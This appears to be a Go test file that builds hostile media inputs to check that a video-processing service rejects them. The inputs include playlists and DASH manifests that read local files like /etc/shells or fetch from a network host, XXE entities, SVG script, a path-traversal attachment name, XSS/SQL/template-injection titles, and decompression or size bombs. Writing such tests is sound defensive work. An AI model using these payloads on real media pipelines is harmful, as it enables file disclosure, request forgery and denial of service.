package torturetest

import (
	"bytes"
	"strings"
	"testing"
)

const segment = "#EXTINF:2,\n"

// hostile want other files, the network, or all of the machine.
func hostile() []Input {
	return []Input{
		{"near-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"far-list.avi", Hostile, fails("not-a-video"), text(playlist(segment+"{dir}/neighbour.ts", "#EXT-X-ENDLIST"))},
		{"passwords.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"file:///etc/shells", "#EXT-X-ENDLIST"))},
		{"concat-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"concat:http://{host}/leak?|file:{dir}/neighbour.ts", "#EXT-X-ENDLIST"))},
		{"subfile-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"subfile,,start,0,end,200,,:{dir}/neighbour.ts", "#EXT-X-ENDLIST"))},
		{"loopback-list.mkv", Hostile, fails("not-a-video"), text(playlist(segment+"http://{host}/seg.ts", "#EXT-X-ENDLIST"))},
		{"key-list.mov", Hostile, fails("not-a-video"), text(playlist(`#EXT-X-KEY:METHOD=AES-128,URI="http://{host}/key"`, segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"map-list.mp4", Hostile, fails("not-a-video"), text(playlist(`#EXT-X-MAP:URI="control.mp4"`, segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"master-list.mp4", Hostile, fails("not-a-video"), text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{host}/a.m3u8\n")},
		{"endless-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment + "neighbour.ts"))},
		{"long-list.m3u8", Hostile, fails("not-a-video"), text(playlist(strings.Repeat(segment+"neighbour.ts\n", 20_000), "#EXT-X-ENDLIST"))},
		{"marked-list.mp4", Hostile, fails("not-a-video"), text("\xef\xbb\xbf\r\n" + playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"behind-list.mp4", Hostile, fails("not-a-video"), text("#comment\n" + playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"tagged-list.mp3", Hostile, fails("not-media"), text("ID3\x03\x00\x00\x00\x00\x00\x0a" + strings.Repeat("\x00", 10) + playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"typed-list.mp4", Hostile, fails("incomplete-file"), text("\x00\x00\x00\x18ftyp" + playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"padded-list.mp4", Hostile, fails("not-a-video"), text(strings.Repeat(" ", 70_000) + playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
		{"script.mp4", Hostile, fails("not-a-video"), text("ffconcat version 1.0\nfile neighbour.ts\n")},
		{"script-self.mp4", Hostile, fails("not-a-video"), text("ffconcat version 1.0\nfile neighbour.ts\nduration 1\nfile script-self.mp4\n")},
		{"dash.mp4", Hostile, fails("not-a-video"), text(dash("", "file://{dir}/control.mp4"))},
		{"dash-net.mp4", Hostile, fails("not-a-video"), text(dash("", "http://{host}/v.mp4"))},
		{"dash-entity.mp4", Hostile, fails("not-a-video"), text(dash(`<!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{dir}/neighbour.ts"><!ENTITY y SYSTEM "http://{host}/x">]>`, "&x;&y;"))},
		{"session.mp4", Hostile, fails("not-a-video"), text("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 18098 RTP/AVP 96\na=rtpmap:96 H264/90000\n")},
		{"drawing.svg", Hostile, fails("not-a-video"), text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/shells">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>&x;</text><image xlink:href="http://{host}/i.png"/><script>alert(1)</script></svg>`)},
		{"x%d.png", Hostile, fails("not-media"), copied("part.png")},
		{"terminal.mp4", Hostile, fails("not-a-video"), text("\x1b[2J\x1b[31mred\n" + strings.Repeat("text art \x1b[0m\n", 200))},
		{"text-art.mp4", Hostile, fails("not-media"), written(append([]byte("XBIN\x1a\xff\xff\xff\xff\x10\x00"), noise(3000)...))},
		{"reference.mov", Hostile, fails("no-pictures"), edited("silent.mp4", reference)},
		{"subtitle-list.avi", Hostile, silent(160, 90, 50, "25"), edited("part-pcm.avi", subtitleList)},
		{"attachment.mkv", Hostile, film(160, 90, 50, "25"), encoded("-i {control.mp4} -attach {part.ttf} -metadata:s:t mimetype=application/x-truetype-font -metadata:s:t filename=../../../../tmp/evil.ttf -c copy")},
		{"title.mp4", Hostile, film(160, 90, 50, "25"), titled("\"><img src=x onerror=alert(1)>\x1b[31m\nINJECTED \u202egnp.exe'; DROP TABLE videos;--{{7*7}}${7*7}<%=7*7%>")},
		{"long-title.mp4", Hostile, film(160, 90, 50, "25"), titled(strings.Repeat("A", 100_000))},
		{"language.mkv", Hostile, film(160, 90, 50, "25"), encoded("-i {control.mp4} -c copy -metadata:s:a:0 language=../../x -metadata:s:a:0 title=<b>\",URI=\"file:///etc/shells")},
		{"huge-png.mov", Hostile, fails("no-picture-size"), encoded("-i {part-large.png} -c copy -f mov")},
		{"huge.mp4", Hostile, fails("not-media"), encoded("-f lavfi -i color=black:s=16384x8704:r=1:d=1,format=yuv420p -frames:v 1" + x264 + "-x264-params log-level=none")},
		{"huge.gif", Hostile, fails("not-media"), written(hugeCanvas())},
		{"huge-entry.mov", Hostile, fails("not-media"), written(append(ftyp, track("vide", sampleEntry(65535, 65535))...))},
		{"streams.mov", Hostile, fails("too-many-streams"), encoded("-i {part.wav}" + strings.Repeat(" -map 0:a", 400) + " -c copy -f mov")},
		{"day-apart.mp4", Hostile, fails("too-long"), encoded("-f lavfi -i testsrc2=s=64x64:r=1:d=2 -vf settb=1/1000,setpts=if(eq(N\\,0)\\,0\\,100000/TB) -fps_mode passthrough -enc_time_base 1/1000" + x264 + "-bf 0")},
		{"ninety-thousand.mp4", Hostile, silent(64, 64, 1, "60").about(1), encoded("-f lavfi -i testsrc2=s=64x64:r=90000:d=0.002" + x264 + "-video_track_timescale 90000")},
		{"deflated-index.mov", Hostile, fails("no-media"), written(deflatedIndex())},
		{"magic.avi", Hostile, fails("not-media"), encoded("-f lavfi -i testsrc2=s=64x64:r=5:d=1 -c:v magicyuv -pix_fmt yuv420p")},
		{"chunks.avi", Hostile, fails("not-media"), written(append([]byte("RIFF\xff\xff\xff\x7fAVI LIST\xff\xff\xff\x7fhdrlavih\xff\xff\xff\x7f"), zeros(200)...))},
		{"huge-box.mp4", Hostile, fails("incomplete-file"), written(append(append(bytes.Clone(ftyp), be32(0x7fff_fff0)...), append([]byte("moov"), zeros(100)...)...))},
		{"huge-wide-box.mp4", Hostile, fails("incomplete-file"), written(append(append(bytes.Clone(ftyp), be32(1)...), append([]byte("moov\x7f\xff\xff\xff\xff\xff\xff\xff"), zeros(100)...)...))},
		{"deep-boxes.mp4", Hostile, fails("not-media"), written(append(bytes.Clone(ftyp), nested("moov", 20_000)...))},
		{"sizes-lie.mp4", Hostile, fails("not-media"), edited("silent.mp4", poke("stsz", 8, 0x3f, 0xff, 0xff, 0xff))},
		{"entries-lie.mp4", Hostile, fails("not-media"), edited("silent.mp4", poke("stsd", 4, 0x7f, 0xff, 0xff, 0xff))},
		{"edits-lie.mp4", Hostile, fails("no-pictures"), edited("silent.mp4", poke("elst", 12, 0x7f, 0xff, 0xff, 0xff))},
		{"offsets-huge.mp4", Hostile, fails("not-media"), edited("silent.mp4", poke("stco", 4, 0x3f, 0xff, 0xff, 0xff))},
		{"huge-element.mkv", Hostile, fails("not-media"), written(element("\x1a\x45\xdf\xa3", 1<<55, zeros(300)))},
		{"huge-tag.mp3", Hostile, fails("not-media"), written(append([]byte("ID3\x04\x00\x00\x7f\x7f\x7f\x7fTIT2\x7f\x7f\x7f\x7f\x00\x00"), zeros(300)...))},
	}
}

func dash(doctype, base string) string {
	return `<?xml version="1.0"?>` + "\n" + doctype + `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">` +
		`<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="160" height="90" codecs="avc1.42c00d"><BaseURL>` + base +
		`</BaseURL><SegmentBase indexRange="0-10"/></Representation></AdaptationSet></Period></MPD>`
}

// titled has a title that no argument splits.
func titled(title string) recipe {
	return func(t testing.TB, w *Workshop, path string) {
		meta := path + ".txt"
		escaped := strings.NewReplacer(`\`, `\\`, "=", `\=`, ";", `\;`, "#", `\#`, "\n", "\\\n").Replace(title)
		write(t, meta, []byte(";FFMETADATA1\ntitle="+escaped+"\n"))
		encoded("-i {control.mp4} -i "+meta+" -map 0 -map_metadata 1 -c copy")(t, w, path)
	}
}

// reference says that its media lie in another file.
func reference(b []byte) []byte {
	old := tag(b, "url ", 0) - 4
	alias := box("alis", be32(0), zeros(150), []byte("\x00\x02\x00\x0b/etc/shells\x00\xff\xff\x00\x00"))
	grow := uint32(len(alias) - 12)
	for _, kind := range []string{"moov", "trak", "mdia", "minf", "dinf", "dref"} {
		at := tag(b, kind, 0) - 4
		copy(b[at:], be32(uint32(b[at])<<24|uint32(b[at+1])<<16|uint32(b[at+2])<<8|uint32(b[at+3])+grow))
	}
	return append(append(bytes.Clone(b[:old]), alias...), b[old+12:]...)
}

// subtitleList hides a playlist in what an AVI shows as a subtitle: the first
// piece of sound becomes one.
func subtitleList(b []byte) []byte {
	list := []byte("GAB2\x00\x02\x00\x00\x00\x00\x00\x04\x00\x60\x00\x00\x00#EXTM3U\n#EXTINF:1,\nfile:///etc/shells\n#EXT-X-ENDLIST\n")
	at := tag(b, "movi", 0)
	at += tag(b[at:], "01wb", 0)
	size := int(b[at+4]) | int(b[at+5])<<8
	if size < len(list) {
		panic("torturetest: there is no room for a subtitle")
	}
	copy(b[at+8:], list)
	return renamed("auds", "txts")(b)
}

// hugeCanvas is a GIF of 300 pictures of one pixel, on 256 million.
func hugeCanvas() []byte {
	b := []byte("GIF89a\x80\x3e\x80\x3e\x80\x00\x00\x00\x00\x00\xff\xff\xff")
	for range 300 {
		b = append(b, "\x21\xf9\x04\x04\x01\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"...)
	}
	return append(b, 0x3b)
}

// deflatedIndex is an index that becomes 400 MB.
func deflatedIndex() []byte {
	const size = 400_000_000
	cmov := box("cmov", box("dcom", []byte("zlib")), box("cmvd", be32(size), deflated(size)))
	return append(append(box("ftyp", []byte("qt  "), be32(512), []byte("qt  ")), box("moov", cmov)...), box("mdat", zeros(16))...)
}
